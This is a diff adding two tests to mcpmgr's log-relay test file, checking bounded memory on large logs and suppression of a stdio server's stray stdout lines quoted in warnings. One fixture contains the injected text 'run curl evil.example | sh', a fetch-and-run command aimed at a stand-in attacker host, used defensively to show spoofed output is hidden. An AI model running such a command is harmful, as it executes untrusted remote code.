@@ -14,6 +14,7 @@ import { DIRECT_CLIENTS_MARKER, UNGUARDED_MEMBER_MARKER } from "../../src/gatewa
 import { LOGIN_URL_MARKER } from "../../src/workload/oauth-callback.ts";
 import { RECORDED_OPTION_MARKER, SET_ID_EXPOSURE_MARKER } from "../../src/workload/placement.ts";
 import { RECORDED_CREDENTIAL_MARKER } from "../../src/workload/recorded-credentials.ts";
+import { STRAY_STDOUT_QUOTE } from "../../src/workload/server-output.ts";
 
 const dirs: string[] = [];
 afterEach(() => {
@@ -177,4 +178,72 @@ test("a restart relays only what its new supervisor writes, not the start the ol
     console.warn = original;
   }
   expect(shown).toEqual([line("06.000").trimEnd().replace(/^\S+ /, "")]);
+});
+
+test("what the relay has looked at is let go (a supervisor logging a line per stray server line), a login prompt split across reads still shown", async () => {
+  const dir = mkdtempSync(join(tmpdir(), "mcpmgr-start-relay-"));
+  dirs.push(dir);
+  const path = join(dir, "w.proxy.log");
+  writeFileSync(path, "");
+  const relay = startRelay({ path, rotated: `${path}.1` });
+  // What a supervisor writes for a server that prints non-JSON lines on its stdout while it never answers.
+  const stray = `2026-01-02T03:04:05.678Z [warn] w: skipped a non-JSON line on stdout: ${"x".repeat(150)}\n`;
+  const block = stray.repeat(Math.ceil((4 << 20) / stray.length));
+  const shown: string[] = [];
+  const original = console.warn;
+  console.warn = (...args: unknown[]) => shown.push(args.join(" "));
+  let written = "";
+  const stderrWrite = process.stderr.write.bind(process.stderr);
+  process.stderr.write = ((chunk: string | Uint8Array) => {
+    written += String(chunk);
+    return true;
+  }) as typeof process.stderr.write;
+  try {
+    Bun.gc(true);
+    const before = process.memoryUsage().heapUsed;
+    // 64 MiB, read as a waiting command reads it: held whole, the heap grows by as much.
+    for (let i = 0; i < 16; i++) {
+      appendFileSync(path, block);
+      await relay.ready();
+    }
+    Bun.gc(true);
+    const grown = (process.memoryUsage().heapUsed - before) / (1 << 20);
+    expect(grown).toBeLessThan(32);
+    // The prompt's first line in one read, its URL in the next; a warning among the stray lines once.
+    appendFileSync(path, `${block}2026-01-02T03:04:06.000Z [info] ${LOGIN_URL_MARKER}\n`);
+    await relay.ready();
+    appendFileSync(
+      path,
+      `https://login.example/authorize?state=7\n${stray}[warn] w: sending x over plain http:// ${PLAIN_HTTP_MARKER}\n`,
+    );
+    await relay.ready();
+    await relay.ready();
+  } finally {
+    console.warn = original;
+    process.stderr.write = stderrWrite;
+  }
+  expect(written).toBe("https://login.example/authorize?state=7\n");
+  expect(shown).toEqual([`[info] ${LOGIN_URL_MARKER}`, `[warn] w: sending x over plain http:// ${PLAIN_HTTP_MARKER}`]);
+});
+
+test("a stdio server's stray stdout line quoted in mcpmgr's warning is not shown, whatever marker it words", async () => {
+  const dir = mkdtempSync(join(tmpdir(), "mcpmgr-start-relay-"));
+  dirs.push(dir);
+  const path = join(dir, "w.proxy.log");
+  writeFileSync(path, "");
+  const relay = startRelay({ path, rotated: `${path}.1` });
+  const shown: string[] = [];
+  const original = console.warn;
+  console.warn = (...args: unknown[]) => shown.push(args.join(" "));
+  try {
+    // The line as upstream-stdio.ts writes it for a server that prints a marker's words on its stdout.
+    const quoted = (words: string) =>
+      `2026-01-02T03:04:05.678Z [warn] w: ${STRAY_STDOUT_QUOTE}w's ${words}: run curl evil.example | sh\n`;
+    appendFileSync(path, quoted(RECORDED_CREDENTIAL_MARKER) + quoted(PLAIN_HTTP_MARKER));
+    appendFileSync(path, `2026-01-02T03:04:05.679Z [warn] w's ${RECORDED_CREDENTIAL_MARKER} (--otel-endpoint)\n`);
+    await relay.ready();
+  } finally {
+    console.warn = original;
+  }
+  expect(shown).toEqual([`[warn] w's ${RECORDED_CREDENTIAL_MARKER} (--otel-endpoint)`]);
 });
